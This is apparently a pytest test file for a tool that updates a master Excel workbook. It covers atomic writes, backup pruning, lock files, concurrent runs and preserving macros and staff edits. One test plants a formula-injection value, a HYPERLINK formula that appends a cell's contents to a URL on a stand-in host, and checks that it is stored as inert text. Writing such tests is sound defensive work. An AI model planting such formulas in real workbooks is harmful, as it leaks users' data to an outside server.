"""The master is the system of record: atomic writes, backups, locks, and a rewrite that keeps everything."""

import hashlib
import os
import stat
import zipfile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill

from igloo_xl.package.atomic import BACKUP_DIR, atomic_target, backup
from igloo_xl.errors import WorkbookLocked
from igloo_xl.package.master_update import replace_sheet
from igloo_xl.validation.engine import validate_file


def digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


def parts(path):
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def fill_dashboard(ws):
    ws["A1"] = "Tableau de bord"
    ws.append(["Statut", "Familles"])
    for label, n in (("Candidate", 1), ("Relogée", 13)):
        ws.append([label, n])
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=2, min_row=2, max_row=4), titles_from_data=True)
    chart.set_categories(Reference(ws, min_col=1, min_row=3, max_row=4))
    ws.add_chart(chart, "D2")


@pytest.fixture
def staff_master(sample_path, tmp_path):
    """The sample after a year of staff work: extra column, own fills and fonts, a comment, a formula,
    an extra defined name and an extra sheet."""
    wb = openpyxl.load_workbook(sample_path)
    ws = wb["Familles"]
    ws["L1"] = "Remarques de l'équipe"
    ws["L2"] = "Rappeler mardi"
    ws["L3"] = "=LEN(B3)"
    ws["B4"].fill = PatternFill("solid", fgColor="FF00B0F0")
    ws["C5"].font = Font(bold=True, color="FFFF0000")
    ws["E6"].number_format = "0.00"
    ws["A7"].comment = Comment("Famille prioritaire", "Mme Weber")
    wb.create_sheet("Notes de l'équipe")["A1"] = "Réunion du 12/03"
    from openpyxl.workbook.defined_name import DefinedName

    wb.defined_names["zone_equipe"] = DefinedName("zone_equipe", attr_text="Familles!$L$1:$L$20")
    path = tmp_path / "maitre.xlsx"
    wb.save(path)
    return path


def test_atomic_target_leaves_old_file_when_interrupted(tmp_path):
    target = tmp_path / "sortie.xlsx"
    target.write_bytes(b"ancien")
    with pytest.raises(RuntimeError):
        with atomic_target(target) as tmp:
            tmp.write_bytes(b"moitie")
            raise RuntimeError("coupure")
    assert target.read_bytes() == b"ancien"
    assert [p.name for p in tmp_path.iterdir()] == ["sortie.xlsx"]


def test_lock_file_or_read_only_refuses_any_write(staff_master):
    before = digest(staff_master)
    lock = staff_master.with_name("~$" + staff_master.name)
    lock.write_bytes(b"Mme Weber")
    with pytest.raises(WorkbookLocked):
        replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    lock.unlink()
    os.chmod(staff_master, stat.S_IREAD)
    try:
        with pytest.raises(WorkbookLocked):
            replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    finally:
        os.chmod(staff_master, stat.S_IREAD | stat.S_IWRITE)
    assert digest(staff_master) == before
    assert not (staff_master.parent / BACKUP_DIR).exists()


def test_backups_keep_the_last_twenty(tmp_path):
    import datetime as dt

    master = tmp_path / "maitre.xlsx"
    master.write_bytes(b"x")
    for i in range(25):
        backup(master, now=dt.datetime(2026, 1, 1, 10, 0, i))
    kept = sorted(p.name for p in (tmp_path / BACKUP_DIR).iterdir())
    assert len(kept) == 20 and kept[0] == "maitre_2026-01-01_100005_000000.xlsx"


def test_rewrite_keeps_every_other_part_byte_for_byte(staff_master):
    before = parts(staff_master)
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard, before="Familles")
    after = parts(staff_master)
    changed = {n for n in before if before[n] != after.get(n)}
    assert changed == {"xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"}
    assert (staff_master.parent / BACKUP_DIR).exists()
    # a second refresh replaces the sheet in place, still touching nothing else
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    again = parts(staff_master)
    assert {n for n in before if before[n] != again.get(n)} == changed


def test_rewrite_keeps_values_formats_validations_tables_names(staff_master):
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard, before="Familles")
    wb = openpyxl.load_workbook(staff_master)
    assert wb.sheetnames[:3] == ["Accueil", "Tableau de bord", "Familles"]
    ws = wb["Familles"]
    assert (ws["L2"].value, ws["L3"].value) == ("Rappeler mardi", "=LEN(B3)")
    assert ws["B4"].fill.fgColor.rgb == "FF00B0F0" and ws["C5"].font.bold and ws["E6"].number_format == "0.00"
    assert ws["A7"].comment.text == "Famille prioritaire"
    assert "t_Familles" in ws.tables and ws.data_validations.dataValidation
    assert {"zone_equipe", "liste_Statut_famille"} <= set(wb.defined_names)
    assert ws.print_title_rows == "$1:$1" and wb["Lots"].print_title_rows == "$1:$1"
    assert wb["Notes de l'équipe"]["A1"].value == "Réunion du 12/03"
    assert len(wb["Tableau de bord"]._charts) == 1
    assert validate_file(staff_master).ok


def test_rewrite_keeps_vba_project_and_form_controls(staff_master, tmp_path):
    """An .xlsm's VBA project, its button VML and control properties survive untouched."""
    xlsm = tmp_path / "maitre.xlsm"
    with zipfile.ZipFile(staff_master) as src, zipfile.ZipFile(xlsm, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                                    b'<Override PartName="/xl/ctrlProps/ctrlProp1.xml" ContentType="application/vnd.ms-excel.controlproperties+xml"/></Types>')
            dst.writestr(item, data)
        dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0VBA-PROJECT" * 100)
        dst.writestr("xl/drawings/vmlDrawing1.vml", b'<xml><v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>ValiderClasseur</x:FmlaMacro></x:ClientData></v:shape></xml>')
        dst.writestr("xl/ctrlProps/ctrlProp1.xml", b'<formControlPr objectType="Button"/>')
    before = parts(xlsm)
    replace_sheet(xlsm, "Tableau de bord", fill_dashboard)
    after = parts(xlsm)
    for name in ("xl/vbaProject.bin", "xl/drawings/vmlDrawing1.vml", "xl/ctrlProps/ctrlProp1.xml"):
        assert after[name] == before[name]
    assert b"ctrlProp1.xml" in after["[Content_Types].xml"]


def test_validation_never_writes_the_master(staff_master):
    before = digest(staff_master)
    validate_file(staff_master)
    assert digest(staff_master) == before


def test_dashboard_refresh_of_the_staff_workbook_keeps_macros_and_buttons(sample_path, tmp_path):
    """The real .xlsm: after `igloo-xl dashboard`, its VBA project and buttons are byte for byte the same."""
    from igloo_xl import api
    from igloo_xl.package.xlsm_build import build_xlsm

    xlsm = build_xlsm(sample_path, tmp_path / "igloo_master.xlsm")
    before = parts(xlsm)
    api.refresh_dashboard(xlsm)
    after = parts(xlsm)
    kept = [n for n in before if n.endswith((".bin", ".vml")) or n.startswith("xl/worksheets/sheet1")]
    assert "xl/vbaProject.bin" in kept and any(n.endswith(".vml") for n in kept)
    assert all(after[n] == before[n] for n in kept)
    # the styles part only gains the dashboard's formats (tests/test_styles_merge.py checks nothing in it moves)
    changed = {n for n in before if before[n] != after.get(n)}
    assert {"xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"} <= changed
    assert changed <= {"xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml", "xl/styles.xml"}
    assert api.validate_file(xlsm).ok


# --- issue 9: the master under attack -------------------------------------------------------------

import datetime as dt
import socket
import subprocess
import sys

from igloo_xl import api


def test_backups_of_one_master_are_never_pruned_by_another(tmp_path):
    """IGLOO.xlsx's pruning glob used to match IGLOO_2010.xlsx's copies (and a stem with [ ] was a glob)."""
    for stem in ("IGLOO", "IGLOO_2010", "IGLOO [copie]"):
        (tmp_path / f"{stem}.xlsx").write_bytes(stem.encode())
    for i in range(5):
        backup(tmp_path / "IGLOO_2010.xlsx", now=dt.datetime(2026, 1, 1, 9, 0, i))
        backup(tmp_path / "IGLOO [copie].xlsx", now=dt.datetime(2026, 1, 1, 9, 0, i))
    for i in range(25):
        backup(tmp_path / "IGLOO.xlsx", keep=3, now=dt.datetime(2026, 1, 2, 10, 0, i))
    names = sorted(p.name for p in (tmp_path / BACKUP_DIR).iterdir())
    assert len([n for n in names if n.startswith("IGLOO_2010_")]) == 5
    assert len([n for n in names if n.startswith("IGLOO [copie]_")]) == 5
    own = [n for n in names if n.startswith("IGLOO_2026-")]
    assert own == [f"IGLOO_2026-01-02_1000{s}_000000.xlsx" for s in (22, 23, 24)]
    assert (tmp_path / BACKUP_DIR / own[0]).read_bytes() == b"IGLOO"


def test_a_master_that_is_a_symlink_is_written_through(staff_master, tmp_path):
    link = tmp_path / "raccourci.xlsx"
    link.symlink_to(staff_master)
    replace_sheet(link, "Tableau de bord", fill_dashboard)
    assert link.is_symlink() and link.resolve() == staff_master.resolve()
    assert "Tableau de bord" in openpyxl.load_workbook(staff_master).sheetnames
    assert any((staff_master.parent / BACKUP_DIR).iterdir())


def test_read_only_is_the_file_mode_even_for_root(staff_master):
    """os.access is always true for root: the mode itself says read-only."""
    before = digest(staff_master)
    os.chmod(staff_master, 0o444)
    try:
        with pytest.raises(WorkbookLocked) as refused:
            replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    finally:
        os.chmod(staff_master, 0o644)
    assert refused.value.exit_code == 2
    assert digest(staff_master) == before and not (staff_master.parent / BACKUP_DIR).exists()


def _write_lock(master, **owner):
    from igloo_xl.package import master_lock

    lock = master_lock.lock_path(master)
    base = {"pid": os.getpid(), "host": socket.gethostname(), "user": "mme.weber",
            "since": dt.datetime.now().isoformat(timespec="seconds"), "token": "x"}
    lock.write_text(__import__("json").dumps({**base, **owner}))
    return lock


def test_a_rewrite_in_progress_refuses_the_second_with_exit_2(staff_master, monkeypatch):
    from igloo_xl.package import master_lock

    monkeypatch.setattr(master_lock, "WAIT_SECONDS", 0.3)
    before = digest(staff_master)
    lock = _write_lock(staff_master)  # held by this very process: alive
    with pytest.raises(WorkbookLocked) as refused:
        replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    assert refused.value.exit_code == 2 and lock.exists()
    assert digest(staff_master) == before and not (staff_master.parent / BACKUP_DIR).exists()


def test_a_stale_lock_is_taken_over(staff_master, monkeypatch):
    from igloo_xl.package import master_lock

    monkeypatch.setattr(master_lock, "WAIT_SECONDS", 0.3)
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()
    lock = _write_lock(staff_master, pid=gone.pid)  # a run killed on this machine
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    assert not lock.exists()
    old = (dt.datetime.now() - dt.timedelta(hours=2)).isoformat(timespec="seconds")
    lock = _write_lock(staff_master, host="autre-poste", since=old)  # a run killed on another machine
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    assert not lock.exists()
    assert openpyxl.load_workbook(staff_master).sheetnames.count("Tableau de bord") == 1


def test_concurrent_dashboard_runs_never_crash(sample_path, tmp_path):
    """Runs at once used to prune the same old copy: one crashed (exit 3, FileNotFoundError)."""
    master = tmp_path / "maitre.xlsx"
    master.write_bytes(sample_path.read_bytes())
    for i in range(20):
        backup(master, now=dt.datetime(2020, 1, 1, 9, 0, i))
    runs = [subprocess.Popen([sys.executable, "-m", "igloo_xl", "dashboard", str(master)],
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True) for _ in range(6)]
    codes = [(p.wait(), p.stderr.read()) for p in runs]
    for p in runs:
        p.stderr.close()
    assert all(code in (0, 2) for code, _ in codes), codes
    assert any(code == 0 for code, _ in codes)
    assert sorted(p.name for p in tmp_path.iterdir()) == [BACKUP_DIR, "igloo-journal.csv", "maitre.xlsx"]
    copies = sorted(p.name for p in (tmp_path / BACKUP_DIR).iterdir())
    assert len(copies) == 20
    assert len([n for n in copies if not n.startswith("maitre_2020-")]) == sum(code == 0 for code, _ in codes)
    assert openpyxl.load_workbook(master).sheetnames.count("Tableau de bord") == 1
    assert validate_file(master).ok


def test_pruning_a_copy_another_run_just_pruned_is_not_an_error(tmp_path, monkeypatch):
    """Two runs pruning at once: the second finds the oldest copy already gone (was exit 3)."""
    import pathlib

    master = tmp_path / "maitre.xlsx"
    master.write_bytes(b"x")
    for i in range(20):
        backup(master, now=dt.datetime(2020, 1, 1, 9, 0, i))
    unlink = pathlib.Path.unlink

    def raced(self, *args, **kwargs):
        if self.parent.name == BACKUP_DIR and self.exists():
            os.remove(self)  # the other run was faster
        return unlink(self, *args, **kwargs)

    monkeypatch.setattr(pathlib.Path, "unlink", raced)
    made = backup(master, now=dt.datetime(2026, 1, 1, 9, 0, 0))
    monkeypatch.undo()
    assert made.exists() and len(list(made.parent.iterdir())) == 20


def test_a_full_disk_leaves_master_and_folder_as_they_were(staff_master, monkeypatch):
    import errno

    from igloo_xl.errors import WriteFailed

    before = digest(staff_master)
    listing = sorted(p.name for p in staff_master.parent.iterdir())

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(WriteFailed) as refused:
        replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    assert refused.value.exit_code == 2
    assert digest(staff_master) == before
    after = sorted(p.name for p in staff_master.parent.iterdir())
    assert [n for n in after if n != BACKUP_DIR] == listing
    assert not any((staff_master.parent / BACKUP_DIR).iterdir())


def _rewrite_part(path, part, change):
    data = parts(path)
    data[part] = change(data[part].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path) as src:
        infos = src.infolist()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in infos:
            dst.writestr(info, data[info.filename])


def _prefixed(xml):
    """The same workbook.xml with the main namespace bound to prefix x: (valid OOXML)."""
    import re

    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = xml.replace(f'xmlns="{main}"', f'xmlns:x="{main}"')
    return re.sub(r"<(/?)(?![?!])([A-Za-z]+)\b", r"<\1x:\2", xml)


def test_a_prefixed_workbook_xml_gets_its_sheet_registered(staff_master):
    _rewrite_part(staff_master, "xl/workbook.xml", _prefixed)
    assert b"<x:sheet " in parts(staff_master)["xl/workbook.xml"]
    before = parts(staff_master)
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard, before="Familles")
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    wb = openpyxl.load_workbook(staff_master)
    assert wb.sheetnames[:3] == ["Accueil", "Tableau de bord", "Familles"]
    assert len(wb["Tableau de bord"]._charts) == 1
    after = parts(staff_master)
    assert {n for n in before if before[n] != after.get(n)} == {"xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"}
    registered = {n for n in after if n.startswith(("xl/worksheets/sheet", "xl/charts/", "xl/drawings/drawing"))}
    assert {n for n in after if n not in before} <= registered | {n for n in after if "/_rels/" in n}
    assert validate_file(staff_master).ok


def test_a_workbook_the_splice_cannot_register_is_refused_untouched(staff_master):
    """The relationships namespace declared on each sheet element only: never « mis à jour » without a sheet."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def local_r(xml):
        return xml.replace(f' xmlns:r="{rel}"', "", 1).replace("<sheet ", f'<sheet xmlns:r="{rel}" ')

    _rewrite_part(staff_master, "xl/workbook.xml", local_r)
    assert "Familles" in openpyxl.load_workbook(staff_master).sheetnames
    before = digest(staff_master)
    from igloo_xl.errors import UnusableWorkbook

    with pytest.raises(UnusableWorkbook) as refused:
        replace_sheet(staff_master, "Tableau de bord", fill_dashboard)
    assert refused.value.exit_code == 2
    assert digest(staff_master) == before and not (staff_master.parent / BACKUP_DIR).exists()


def test_a_sheet_renamed_in_capitals_is_reused_not_duplicated(staff_master):
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard, before="Familles")
    _rewrite_part(staff_master, "xl/workbook.xml", lambda x: x.replace('name="Tableau de bord"', 'name="TABLEAU DE BORD"'))
    replace_sheet(staff_master, "Tableau de bord", fill_dashboard, before="Familles")
    wb = openpyxl.load_workbook(staff_master)
    assert wb.sheetnames[:3] == ["Accueil", "TABLEAU DE BORD", "Familles"]
    assert [n.casefold() for n in wb.sheetnames].count("tableau de bord") == 1
    chart_xml = [v for n, v in parts(staff_master).items() if n.startswith("xl/charts/chart")]
    assert chart_xml and all(b"'TABLEAU DE BORD'!" in x for x in chart_xml)


def test_text_typed_as_a_formula_reaches_the_dashboard_as_text(sample_path, tmp_path):
    """openpyxl turned any string starting with = into a live formula in the Tableau de bord."""
    master = tmp_path / "maitre.xlsx"
    wb = openpyxl.load_workbook(sample_path)
    step = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
    wb["Calendrier"]["A2"] = step
    wb["Calendrier"]["A2"].data_type = "s"
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value == "Neolia":
                    cell.value, cell.data_type = "=1+1", "s"
    wb.save(master)
    api.refresh_dashboard(master, dt.date(2010, 6, 1))
    sheets_xml = [v for n, v in parts(master).items() if n.startswith("xl/worksheets/sheet")]
    assert not [x for x in sheets_xml if b"<f>1+1</f>" in x or b"<f>HYPERLINK" in x]
    ws = openpyxl.load_workbook(master)["Tableau de bord"]
    texts = {c.value for row in ws.iter_rows() for c in row if c.data_type == "s"}
    assert step in texts and "=1+1" in texts
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_a_lock_being_written_is_not_stale_until_its_grace_has_passed(tmp_path):
    from igloo_xl.package import master_lock

    lock = master_lock.lock_path(tmp_path / "maitre.xlsx")
    lock.write_bytes(b"")
    assert not master_lock.is_stale(lock, {})
    old = (dt.datetime.now() - dt.timedelta(minutes=1)).timestamp()
    os.utime(lock, (old, old))
    assert master_lock.is_stale(lock, {})
    alive = {"pid": os.getpid(), "host": socket.gethostname(), "since": dt.datetime.now().isoformat()}
    assert not master_lock.is_stale(lock, alive)
